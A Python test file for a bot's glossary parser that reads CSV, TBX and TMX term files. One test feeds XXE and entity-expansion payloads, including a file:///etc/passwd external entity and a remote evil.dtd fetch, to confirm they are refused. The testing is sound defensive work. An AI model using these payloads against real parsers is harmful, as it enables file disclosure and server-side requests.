"""Glossaries in CSV, JSON, TBX and TMX, of our own and of other programs; hostile ones refused."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.chat.speech import Speech
from bot.files.glossary_files import GlossaryFormat, read_glossary, write_glossary
from bot.files.glossary_lines import TermLine
from bot.files.lines import Reading, Unreadable

COUNCIL = TermLine(2, "Stadtrat", "de", "city council", "en")
KEPT = TermLine(3, "Hafenfest", is_kept=True)
TBX_2008 = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd">
<martif type="TBX" xml:lang="en"><martifHeader><fileDesc><sourceDesc><p>x</p></sourceDesc>
</fileDesc></martifHeader><text><body>
<termEntry id="1"><descrip type="subjectField">law</descrip>
 <langSet xml:lang="de"><tig><term>Stadtrat</term></tig>
 <tig><term>Gemeinderat</term></tig></langSet>
 <langSet xml:lang="en-GB"><ntig><termGrp><term>city <hi>council</hi></term></termGrp>
 </ntig></langSet>
</termEntry>
<termEntry id="2"><langSet xml:lang="de"><tig><term>allein</term></tig></langSet></termEntry>
</body></text></martif>
"""
TMX = """<?xml version="1.0"?>
<!DOCTYPE tmx SYSTEM "tmx14.dtd">
<tmx version="1.4"><header srclang="en" adminlang="en"/><body>
<tu><tuv xml:lang="en-US"><seg>the <bpt i="1">&lt;b&gt;</bpt>mayor<ept i="1"/></seg></tuv>
<tuv xml:lang="uk"><seg>мер</seg></tuv></tu>
<tu srclang="*all*"><tuv lang="EN"><seg>call</seg></tuv><tuv lang="UK"><seg>дзвінок</seg></tuv></tu>
</body></tmx>
"""
WORDS = st.text(
    st.characters(blacklist_categories=("Cs", "Cc", "Cf", "Zl", "Zp", "Zs")), min_size=1, max_size=9
)
TEXTS = st.lists(WORDS, min_size=1, max_size=4).map(" ".join).map(lambda text: f"x{text}")
TERMS = st.lists(
    st.one_of(
        st.builds(TermLine, st.just(1), TEXTS, st.just("de"), TEXTS, st.just("zh-Hant")),
        st.builds(TermLine, st.just(1), TEXTS, is_kept=st.just(True)),
    ),
    min_size=1,
    max_size=6,
)  # fmt: skip


def read(text: str) -> Reading[TermLine]:
    return read_glossary(text.encode())


def sides(reading: Reading[TermLine]) -> list[tuple[str, str, str, str]]:
    found = reading.found
    return [(t.term, t.source_language, t.rendering, t.target_language) for t in found]


def told(reading: Reading[TermLine]) -> list[tuple[int, str]]:
    return [(each.line, Speech().say(each.sentence)) for each in reading.errors]


@pytest.mark.parametrize("form", list(GlossaryFormat))
@given(terms=TERMS)
def test_what_was_written_is_read_back(form: GlossaryFormat, terms: list[TermLine]) -> None:
    reading = read(write_glossary(terms, form, "Harbours & <Cities>"))
    assert not reading.errors
    assert sides(reading) == [
        (t.term, t.source_language, t.rendering, t.target_language) for t in terms
    ]
    assert [t.is_kept for t in reading.found] == [t.is_kept for t in terms]


def test_columns_are_called_so_in_many_languages() -> None:
    reading = read(
        "Begriff;Übersetzung;Ausgangssprache;Zielsprache\nStadtrat;city council;Deutsch;EN\n"
    )
    assert reading.found == [COUNCIL]


def test_a_column_for_each_language_says_a_term_in_all_directions() -> None:
    reading = read("de,English,uk\nStadtrat,city council,міська рада\n")
    assert len(reading.found) == 6
    assert ("city council", "en", "міська рада", "uk") in sides(reading)


def test_a_file_for_deepl_has_no_headings() -> None:
    reading = read("Stadtrat,city council,de,en\nBürgermeister,mayor,de,en\n")
    assert [each.line for each in reading.found] == [1, 2]
    assert sides(reading)[0] == ("Stadtrat", "de", "city council", "en")


def test_a_bad_line_does_not_lose_the_good_ones() -> None:
    reading = read(
        "term,source_language,rendering,target_language,keep\n"
        "Stadtrat,de,city council,en,\nHafenfest,,,,yes\n"
        "Rat,de,,en,\nRat,de,Rat,de,\nRat,Klingonish,council,en,\n…,de,x,en,\n"
    )
    assert reading.found == [COUNCIL, KEPT]
    assert [line for line, _sentence in told(reading)] == [4, 5, 6, 7]
    assert told(reading)[0][1] == "There is no translation of Rat; add one."


def test_terms_of_an_older_termbase_are_read_in_both_directions() -> None:
    reading = read(TBX_2008)
    assert sides(reading) == [
        ("Stadtrat", "de", "city council", "en-GB"),
        ("Gemeinderat", "de", "city council", "en-GB"),
        ("city council", "en-GB", "Stadtrat", "de"),
    ]
    assert reading.found[0].line == 5
    assert told(reading) == [(11, "It is in one language only; add the term in another one.")]


def test_units_of_a_translation_memory_are_read_from_their_source() -> None:
    assert sides(read(TMX)) == [
        ("the mayor", "en-US", "мер", "uk"),
        ("call", "en", "дзвінок", "uk"),
        ("дзвінок", "uk", "call", "en"),
    ]


def test_another_encoding_is_believed_where_the_file_names_it() -> None:
    text = TMX.replace('version="1.0"', 'version="1.0" encoding="windows-1251"', 1)
    assert sides(read_glossary(text.encode("cp1251")))[0][2] == "мер"
    assert sides(read_glossary(TMX.encode("utf-16")))[0][2] == "мер"


def test_a_file_that_breaks_off_is_read_as_far_as_it_goes() -> None:
    reading = read(TMX[: TMX.index("<tu srclang")])
    assert len(reading.found) == 1
    assert told(reading)[0][1].startswith("The file is no valid XML from here on")


@pytest.mark.parametrize(
    "declared",
    [
        '<!ENTITY a "ha">',
        '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">',
        '<!ENTITY x SYSTEM "file:///etc/passwd">',
        '<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;',
    ],
)
def test_a_file_that_defines_entities_is_refused(declared: str) -> None:
    text = f"<?xml version='1.0'?><!DOCTYPE tmx [{declared}]>{TMX[TMX.index('<tmx') :]}"
    with pytest.raises(Unreadable) as refused:
        read(text)
    assert Speech().say(refused.value.sentence).startswith("The file defines entities")


def test_an_entity_from_elsewhere_is_never_looked_for() -> None:
    with pytest.raises(Unreadable):
        read(TMX.replace("мер", "&mayor;"))


@pytest.mark.parametrize(
    "text",
    [
        "<?xml version='1.0'?><html><body>Stadtrat</body></html>",
        "<?xml version='1.0'?>" + "<a>" * 90 + "</a>" * 90,
        "<?xml version='1.0'?>",
    ],
)
def test_other_files_are_refused(text: str) -> None:
    with pytest.raises(Unreadable):
        read(text)


def test_a_term_as_long_as_a_sentence_is_told_of() -> None:
    reading = read(TMX.replace("мер", "мер " * 100))
    assert len(reading.found) == 2
    assert "is longer than 200 characters" in told(reading)[0][1]


def test_a_table_of_something_else_is_refused() -> None:
    with pytest.raises(Unreadable):
        read("city,name\nOdesa,Oksana\n")


@given(st.binary(max_size=400))
def test_rubbish_is_refused_or_read(raw: bytes) -> None:
    for prefix in (b"", b"<tmx>", b"<?xml version='1.0'?><tbx><text>"):
        try:
            read_glossary(prefix + raw)
        except Unreadable:
            continue
